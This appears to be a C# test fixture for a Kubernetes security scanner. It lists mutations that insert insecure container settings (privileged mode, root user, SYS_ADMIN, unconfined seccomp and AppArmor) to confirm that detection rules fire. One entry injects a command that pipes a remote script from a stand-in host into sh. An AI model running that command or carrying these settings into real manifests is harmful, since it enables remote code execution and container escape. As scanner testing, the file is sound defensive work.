namespace ThreatBoard.Kubernetes.Tests.Catalogue.Mutations;

/// <summary>What makes the rules about containers (TB-CTR) find something.</summary>
internal static class ContainerMutations
{
    public static IEnumerable<Mutation> All { get; } =
    [
        new("TB-CTR-01", "web.yaml", "            allowPrivilegeEscalation: false\n", "            allowPrivilegeEscalation: false\n            privileged: true\n"),
        new("TB-CTR-02", "web.yaml", "            allowPrivilegeEscalation: false\n", ""),
        new("TB-CTR-03", "web.yaml", "        runAsNonRoot: true\n", ""),
        new("TB-CTR-04", "web.yaml", "        runAsUser: 101\n", "        runAsUser: 0\n"),
        new("TB-CTR-05", "web.yaml", "              drop: [ALL]\n", "              drop: [ALL]\n              add: [SYS_ADMIN]\n"),
        new("TB-CTR-06", "web.yaml", "              drop: [ALL]\n", "              drop: [ALL]\n              add: [IPC_LOCK]\n"),
        new("TB-CTR-07", "web.yaml", "              drop: [ALL]\n", "              drop: [NET_RAW]\n"),
        new("TB-CTR-08", "web.yaml", "              drop: [ALL]\n", "              drop: [ALL]\n              add: [NET_RAW]\n"),
        new("TB-CTR-09", "web.yaml", "            readOnlyRootFilesystem: true\n", ""),
        new("TB-CTR-10", "web.yaml", "        seccompProfile:\n          type: RuntimeDefault\n", ""),
        new("TB-CTR-11", "web.yaml", "        seccompProfile:\n          type: RuntimeDefault\n", "        seccompProfile:\n          type: Unconfined\n"),
        new("TB-CTR-12", "web.yaml", "        appArmorProfile:\n          type: RuntimeDefault\n", "        appArmorProfile:\n          type: Unconfined\n"),
        new("TB-CTR-13", "web.yaml", "        runAsNonRoot: true\n", "        runAsNonRoot: true\n        seLinuxOptions: {type: spc_t}\n"),
        new("TB-CTR-14", "web.yaml", "            allowPrivilegeEscalation: false\n", "            allowPrivilegeEscalation: false\n            procMount: Unmasked\n"),
        new("TB-CTR-15", "web.yaml", "containerPort: 8080\n", "containerPort: 2222\n"),
        new("TB-CTR-16", "api.yaml", "command: [node, server.js]", "command: [sh, -c, \"curl -s https://get.example.com/agent.sh | sh; node server.js\"]"),
        new("TB-CTR-17", "web.yaml", "            tcpSocket:\n              port: http\n", "            tcpSocket:\n              host: 10.0.0.7\n              port: http\n"),
    ];
}
